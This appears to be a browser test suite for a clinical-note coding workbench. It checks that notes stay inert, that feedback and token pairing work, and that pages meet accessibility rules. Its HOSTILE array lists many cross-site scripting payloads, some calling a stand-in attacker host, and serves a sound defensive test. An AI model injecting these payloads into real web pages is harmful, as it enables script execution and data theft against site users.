// The workbench in real browsers: no note runs anything, anybody can use it, and only who may gets in.

import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { readFile } from "node:fs/promises";
import { test } from "node:test";
import { createRequire } from "node:module";
import { promisify } from "node:util";

import { ROOT, startService } from "./harness.mjs";
import { NOTE, atTheWorkbench } from "./workbench.mjs";

const run = promisify(execFile);
const OSTEOTOME = process.env.OSTEOTOME ?? ".venv/bin/osteotome";
const AXE = await readFile(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

/** What an attacker would paste: every kind of element and handler that runs something, quoted and not. */
const RUN = "document.title='owned',fetch('http://attacker.invalid/')";
const HOSTILE = [
  ...["img src=x onerror", "svg onload", "body onload", "details open ontoggle", "input autofocus onfocus", "video src=x onerror",
    "audio src=x onerror", "marquee onstart", "iframe onload", "math onclick", "a onmouseover", "select autofocus onfocus",
  ].flatMap((start) => [`<${start}="${RUN}">`, `<${start}=${RUN.replaceAll("'", "`")}>`, `<${start.toUpperCase()}="${RUN}"`]),
  `<script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//attacker.invalid/x.js></script>`, `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<a href="javascript:${RUN}">x</a>`, `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`, `<form action="javascript:${RUN}"><button>x</button></form>`, `<base href="//attacker.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=//attacker.invalid/">`, `<link rel=stylesheet href=//attacker.invalid/x.css>`,
  `<style>@import '//attacker.invalid/x.css'; * { background: url(//attacker.invalid/y) }</style>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`, `<svg><script href="data:,${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><img src=x onerror="${RUN}"></template>`,
  `<img src=//attacker.invalid/pixel>`, `<img srcset="//attacker.invalid/a 1x">`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  "\u202Egnp.exe\u202C", "\u0000<script>1</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
];
/** All that the page makes out of a note and its answer. */
const PLAIN = new Set(["button", "code", "div", "h3", "h4", "li", "mark", "ol", "p", "span", "strong", "ul"]);

atTheWorkbench("access", (bench) => {
  test("a_note_cannot_run_anything", async () => {
    await bench.open();
    await bench.read();
    assert.equal(await bench.page.$$eval(".paper img, .paper script, .findings img", (found) => found.length), 0);
    assert.equal(await bench.page.title(), "Osteotome workbench");
    const refused = await bench.page.evaluate(() => {
      try {
        const script = document.createElement("script");
        script.textContent = "document.title = 'owned'";
        document.body.append(script);
      } catch (error) {
        return error instanceof TypeError; // Trusted Types refuse before the policy has to
      }
      return document.title !== "owned";
    });
    assert.ok(refused);
  });

  for (const format of ["text", "html"]) {
    test(`hostile_markup_stays_text_in_${format}`, async () => {
      await bench.open();
      const asked = [];
      bench.page.on("request", (request) => asked.push(new URL(request.url())));
      bench.page.on("dialog", (dialog) => {
        bench.faults.push(`dialog: ${dialog.message()}`);
        return dialog.dismiss();
      });
      await bench.page.select("#format", format);
      await bench.read(`${NOTE}\n${HOSTILE.map((one) => `Left intertrochanteric osteotomy ${one} was done.`).join("\n")}`);
      await new Promise((resolve) => setTimeout(resolve, 300));
      const made = await bench.page.$$eval("#paper *, #inspector *, #legend *, .mentions *, .quotes *, .question *",
        (found) => [...new Set(found.map((one) => one.localName))].toSorted());
      assert.deepEqual(made.filter((one) => !PLAIN.has(one)), []);
      assert.equal(await bench.page.title(), "Osteotome workbench");
      assert.deepEqual(asked.filter((url) => url.origin !== new URL(bench.service.url).origin).map(String), []);
      assert.deepEqual(bench.faults, []);
    });
  }

  test("feedback_is_kept_by_the_service", async () => {
    await bench.open();
    await bench.read();
    await bench.page.click(".verdict.agree");
    await bench.page.waitForFunction(() => document.querySelector(".feedback-state").textContent.startsWith("Accepted"));
    await bench.page.click(".verdict.disagree");
    await bench.page.waitForSelector(".reject select");
    await bench.page.select(".reject select", "wrong_level");
    await bench.page.click(".reject button");
    await bench.page.waitForFunction(() => document.querySelector(".feedback-state").textContent.startsWith("Rejected"));
    await bench.page.click(".verdict.disagree");
    await bench.page.waitForSelector(".reject select[name=right]");
    await bench.page.select(".reject select[name=right]", "no");
    await bench.page.type(".reject input[name=codes]", "27450, 27450");
    await bench.page.click(".reject button");
    await bench.page.waitForFunction(() => document.querySelector(".feedback-state").textContent.startsWith("Corrected"));
  });

  test("a_refusal_is_told_in_words", async () => {
    await bench.open();
    await bench.page.click("#annotate");
    assert.match(await bench.page.$eval("#notice", (one) => one.textContent), /Paste a note first/);
    await bench.page.evaluate(() => (globalThis.fetch = () => Promise.reject(new TypeError("down"))));
    await bench.page.evaluate(() => (document.querySelector("#source").value = "a note"));
    await bench.page.click("#annotate");
    await bench.page.waitForFunction(() => document.querySelector("#notice").textContent.includes("cannot be reached"));
    assert.equal(await bench.page.$eval("#annotate", (one) => one.disabled), false);
  });

  test("pairing_brings_a_token_to_this_tab", async () => {
    const guarded = await startService(["--access", "token"]);
    try {
      bench.page = await bench.browser.newPage();
      await bench.page.goto(guarded.url);
      await bench.page.waitForFunction(() => document.querySelector("#service").textContent === "Token needed");
      await bench.page.click("#token-button");
      await bench.page.click("#pair");
      await bench.page.waitForSelector("#pair-code:not([hidden])");
      const code = await bench.page.$eval("#pair-code", (one) => one.textContent);
      await run(OSTEOTOME, ["pair", "approve", code, "--name", "Ann", "--state-dir", guarded.state], { cwd: ROOT });
      await bench.page.waitForFunction(() => document.querySelector("#service").textContent === "Service ready for Ann");
      assert.equal(await bench.page.$eval("#access", (one) => one.open), false);
      await bench.read();
      assert.equal(await bench.page.$eval("section.card .code", (one) => one.textContent), "27165");
      assert.equal(await bench.page.evaluate(() => localStorage.length), 0);
    } finally {
      await guarded.stop();
    }
  });

  for (const theme of ["light", "dark"]) {
    test(`axe_finds_nothing_in_${theme}`, async () => {
      await bench.open();
      await bench.page.evaluate((value) => (document.documentElement.dataset.theme = value), theme);
      const empty = await axe(bench.page);
      await bench.read();
      await bench.page.click("section.card .disagree");
      await bench.page.waitForSelector(".reject select");
      const full = await axe(bench.page);
      await bench.page.click("#token-button");
      const dialog = await axe(bench.page);
      assert.deepEqual([...empty, ...full, ...dialog], []);
    });
  }
});

/** Violations as "rule: selector"; axe is injected by the driver, so the page's own policy stays. */
async function axe(page) {
  await page.evaluate(AXE);
  return page.evaluate(async () => {
    const { violations } = await globalThis.axe.run(document, { resultTypes: ["violations"] });
    return violations.flatMap((one) => one.nodes.map((node) => `${one.id}: ${node.target.join(" ")}`));
  });
}
